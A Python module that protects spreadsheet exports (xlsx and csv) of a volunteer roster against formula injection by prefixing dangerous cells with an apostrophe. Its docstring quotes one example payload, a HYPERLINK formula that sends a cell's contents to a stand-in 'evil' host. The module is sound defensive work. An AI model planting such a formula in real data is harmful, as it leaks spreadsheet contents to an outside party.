"""Spreadsheet exports (xlsx and csv) that cannot carry a formula into the reader's Excel or WPS.

A cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which
spreadsheet programs skip before looking for one) is read as a formula when the file is opened or
a cell is edited: a volunteer who signs up as ``=HYPERLINK("http://evil/?"&A1,"点击")`` would
otherwise run in the office of whoever exports the roster. Every export goes through this module,
which prefixes such text with an apostrophe (OWASP's "CSV injection" advice; the apostrophe also
survives a "save as csv"). Numbers stay numbers: a negative number is not text.

Imports that read our own exports back (the question bank) call ``unneutralise`` on each cell,
so an export → import round trip changes nothing.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def neutralise(value: Any) -> Any:
    """``value`` with an apostrophe before text that a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def unneutralise(value: Any) -> Any:
    """The reverse of ``neutralise`` for a cell read from one of our exports."""
    if isinstance(value, str) and len(value) > 1 and value[0] == "'" and value[1] in FORMULA_TRIGGERS:
        return value[1:]
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [neutralise(value) for value in values]


def workbook_bytes(workbook) -> bytes:
    """Save an openpyxl workbook (not write-only) to bytes, neutralising every text cell first,
    however it was written (``append``, ``cell(value=...)``); a cell openpyxl took for a formula
    (any text starting with ``=``) becomes text again."""
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS):
                    cell.value = neutralise(cell.value)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def rows_xlsx(*, title: str, columns: Sequence[Any], rows: Iterable[Sequence[Any]]) -> bytes:
    """One sheet streamed row by row (openpyxl's write-only mode: memory stays flat for a
    roster of 20 000), every row neutralised on the way in."""
    from openpyxl import Workbook

    book = Workbook(write_only=True)
    sheet = book.create_sheet(title)
    sheet.append(safe_row(columns))
    for row in rows:
        sheet.append(safe_row(row))
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def rows_csv(*, columns: Sequence[Any], rows: Iterable[Sequence[Any]]) -> bytes:
    """UTF-8 csv with a byte-order mark (so Excel reads the Chinese), every cell neutralised."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(safe_row(columns))
    writer.writerows(safe_row(row) for row in rows)
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")
